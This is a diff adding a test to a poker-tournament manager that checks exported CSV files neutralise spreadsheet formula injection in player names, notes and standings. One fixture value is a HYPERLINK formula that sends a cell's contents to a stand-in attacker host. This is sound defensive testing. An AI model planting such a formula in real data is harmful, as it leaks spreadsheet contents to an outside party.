@@ -219,3 +219,56 @@ def test_a_players_file_that_cannot_be_read_is_refused_in_words(tmp_path: Path) 
     assert "larger than 2000000 bytes" in said["huge.csv"][0]
     assert "nagyobb 2000000 bájtnál" in said["huge.csv"][1]
     assert "not UTF-8 text" in said["latin.csv"][0] and "UTF-8" in said["latin.csv"][1]
+
+
+#: Names a player could be given (by a joke at the desk or a pasted list) that a
+#: spreadsheet would run as a formula, and names that only look near one.
+FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"Anna")', "+36 Béla", "-1",
+                 "@SUM(A1:A9)", "'=Emma", "''+Feri")
+PLAIN_NAMES = ("O'Brien Gábor", "'Ödön", "Szőke-Nagy Cili", "Dani =)")
+
+
+def test_a_formula_in_a_name_is_written_as_text_and_read_back_the_same(
+        db: Database, tmp_path: Path) -> None:
+    """OWASP's CSV injection: a cell that begins with = + - @ is written with a single
+    quote before it, so a spreadsheet shows the name instead of running it, in the
+    results, the players, the ledger and the standings; a number (a negative league
+    score, a prize) is never quoted. The players file read back (on another
+    machine's database) gives the very same names, a real leading quote kept."""
+    from director.engine.event.money.league import Standing
+
+    events, tournament = EventService(db), TournamentService(db)
+    for n in FORMULA_NAMES + PLAIN_NAMES:
+        events.add_player(n, T0)
+    players = list(csv.DictReader(io.StringIO(csv_files.players_csv(db))))
+    written = {r["name"] for r in players}
+    assert written == {"'" + n for n in FORMULA_NAMES} | set(PLAIN_NAMES)
+    event = events.create_event("tournament", "Friday", {
+        "buy_in": 2000, "fee": 0, "starting_stack": 10000,
+        "blinds": {"levels": [{"small_blind": 25, "big_blind": 50, "minutes": 20}]},
+        "payouts": {"rows": [{"min_entries": 2, "max_entries": 9, "percents": [100]}]}},
+        T0)
+    with Session(db.engine) as s:
+        ids = {p.name: p.id for p in s.exec(select(Player))}
+    a = tournament.register(event, ids["-1"], T0)
+    b = tournament.register(event, ids["+36 Béla"], T0)
+    tournament.bust(event, {b: 0}, T0, eliminators=[a])
+    tournament.finish(event, T0)
+    assert list(csv.reader(io.StringIO(csv_files.results_csv(db, event))))[1:] == [
+        ["1", "'-1", "1", "4000", "0"], ["2", "'+36 Béla", "1", "0", "0"]]
+    assert [r["player"] for r in csv.DictReader(io.StringIO(
+        csv_files.ledger_csv(db, event)))] == ["'-1", "'+36 Béla"]
+    game = events.create_event("cash", "Tuesday", {"small_blind": 100, "big_blind": 200}, T0)
+    CashGameService(db).rake(game, 500, T0, note="=1+1 from table 2")
+    assert [(r["amount"], r["note"]) for r in csv.DictReader(io.StringIO(
+        csv_files.ledger_csv(db, game)))] == [("500", "'=1+1 from table 2")]
+    standings = csv_files.standings_csv([Standing(1, "@Dani", -150, (-150,), 1, 0, 3)])
+    assert standings.splitlines()[1] == "1,'@Dani,-1.50,1,0,3"
+    path = tmp_path / "players.csv"
+    csv_files.save(path, csv_files.players_csv(db))
+    other = open_database(tmp_path / "other.sqlite3")
+    try:
+        assert csv_files.import_players(other, csv_files.read(path), T0) == 10
+        assert names(other) == sorted(FORMULA_NAMES + PLAIN_NAMES)
+    finally:
+        other.close()
